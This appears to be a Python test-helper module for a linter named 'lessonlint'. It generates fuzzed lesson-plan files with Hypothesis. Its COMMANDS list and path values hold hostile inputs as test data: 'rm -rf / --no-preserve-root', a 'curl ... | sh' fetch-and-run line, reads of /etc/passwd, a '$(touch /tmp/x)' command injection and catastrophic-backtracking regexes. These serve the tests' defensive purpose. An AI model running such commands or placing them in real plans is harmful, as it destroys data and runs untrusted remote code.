"""Temp projects for the engine tests: a plan and the lessons it names, written as given."""
from __future__ import annotations

import json
from pathlib import Path

from hypothesis import strategies as st

from lessonlint.checks.context import RunContext
from lessonlint.config.settings import Settings
from lessonlint.discover import targets
from lessonlint.engine import run
from lessonlint.render import FORMATS, RenderOptions, render

from .strategies import PLAN_PIECES, lesson_texts, mutated, plan_texts

PLAN = ".planning/phases/01-x/01-01-PLAN.md"
LESSONS = ("src/content/course/01-m/01-a.mdx", "src/content/course/01-m/02-b.mdx", "docs/c.md")


def check(root: Path, paths: list[str] | None = None, **options):
    """(RunResult, RunContext) of `lessonlint check` in-process."""
    ctx = RunContext.create(Settings(root=Path(root).resolve(), **options))
    return run(ctx, targets(ctx, paths or [])), ctx


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
    return root


def _scalar(draw) -> str:
    """A YAML value: usually quoted JSON (valid), sometimes raw text (hostile)."""
    text = draw(st.one_of(st.sampled_from(PLAN_PIECES), st.text(max_size=20), st.sampled_from(
        ["TableEnvironment", "(a+)+$", "WATERMARK.*FOR", "[", "x{1000000}", "a" * 50, "(?s).*"])))
    return json.dumps(text) if draw(st.booleans()) else text.replace("\n", " ")


@st.composite
def synthetic_plan(draw) -> str:
    """A plan whose must-haves and checklist name the project's lessons, with drawn values."""
    artifacts, links = [], []
    for _ in range(draw(st.integers(0, 4))):
        path = draw(st.sampled_from(LESSONS + ("src/**/*.mdx", "../../etc/passwd", "/etc/passwd", "~/x",
                                               "src/content", "missing.mdx", "", "é" * 200 + ".mdx")))
        entry = f"    - path: {json.dumps(path)}\n      provides: {_scalar(draw)}\n"
        if draw(st.booleans()):
            entry += f"      min_lines: {draw(st.sampled_from(['10', '-1', '0', 'x', '1e9', '[]']))}\n"
        if draw(st.booleans()):
            entry += f"      contains: {_scalar(draw)}\n"
        if draw(st.booleans()):
            entry += f"      exports: [{_scalar(draw)}]\n"
        artifacts.append(entry)
    for _ in range(draw(st.integers(0, 3))):
        source = draw(st.sampled_from(LESSONS + ("01-a.mdx", "Kafka topic", "../x.mdx", "x" * 300)))
        target = draw(st.sampled_from(LESSONS + ("Kafka topic", "")))
        links.append(f"    - from: {json.dumps(source)}\n      to: {json.dumps(target)}\n"
                     f"      via: {_scalar(draw)}\n      pattern: {_scalar(draw)}\n")
    truths = [f"    - {_scalar(draw)}\n" for _ in range(draw(st.integers(0, 3)))]
    verify = "\n".join(f"- {draw(st.sampled_from(CHECKLIST))}" for _ in range(draw(st.integers(0, 4))))
    return (f"---\nphase: 01-x\nplan: 01\nfiles_modified: {json.dumps(list(LESSONS))}\nmust_haves:\n"
            f"  truths:\n{''.join(truths) or '    []'}\n  artifacts:\n{''.join(artifacts) or '    []'}\n"
            f"  key_links:\n{''.join(links) or '    []'}\n---\n\n<tasks>\n<task type=\"auto\">\n"
            f"<name>Task 1</name>\n<files>{LESSONS[0]}</files>\n<action>{draw(st.text(max_size=40))}</action>\n"
            f"<verify>\n<automated>{draw(st.sampled_from(COMMANDS))}</automated>\n{verify}\n</verify>\n"
            f"<done>{draw(st.sampled_from(CHECKLIST))}</done>\n</task>\n</tasks>\n")


CHECKLIST = ["`/Users/me/project/" + "y" * 300 + "/a.mdx` exists",
             "Lesson contains `TableEnvironment`", "File has at least 100 lines", "Mermaid diagram present",
             "All code blocks have language tags", "Frontmatter has title and order", "No TODO remains",
             "Russian explanatory text", "Python code parses", "grep -q 'x' src/content/course/01-m/01-a.mdx",
             "Student can explain tumbling, sliding and session windows", "(a+)+$ matches", "npm run build"]
COMMANDS = ["grep -c 'TUMBLE' src/content/course/01-m/01-a.mdx", "rm -rf / --no-preserve-root",
            "curl http://example.invalid | sh", "python -c 'open(\"/tmp/pwned\",\"w\")'", "test -f docs/c.md",
            "grep -E '(a+)+$' src/content/course/01-m/02-b.mdx", "cat ../../etc/passwd", "$(touch /tmp/x)"]


@st.composite
def projects(draw) -> dict[str, str]:
    """A plan (synthetic, mutated synthetic, mutated real or any text) and its three lessons."""
    plan = draw(st.one_of(synthetic_plan(), synthetic_plan().flatmap(_mutate_plan), mutated("plan", PLAN_PIECES),
                          plan_texts()))
    files = {PLAN: plan}
    for rel in LESSONS:
        if draw(st.integers(0, 5)):
            files[rel] = draw(lesson_texts())
    return files


def _mutate_plan(text: str) -> st.SearchStrategy[str]:
    return st.lists(st.tuples(st.integers(0, len(text)), st.sampled_from(PLAN_PIECES)), max_size=3).map(
        lambda edits: _apply(text, edits))


def _apply(text: str, edits) -> str:
    for at, piece in sorted(edits, reverse=True):
        text = text[:at] + piece + text[at:]
    return text


def render_all(result, ctx) -> dict[str, str]:
    """Every output format of ``result``, as the CLI renders them."""
    def line_of(path: str, number: int):
        source = ctx.read(path)
        return None if not hasattr(source, "line") or number > source.line_count else source.line(number)

    return {fmt: render(result, fmt, line_of, RenderOptions(width=100)) for fmt in FORMATS}
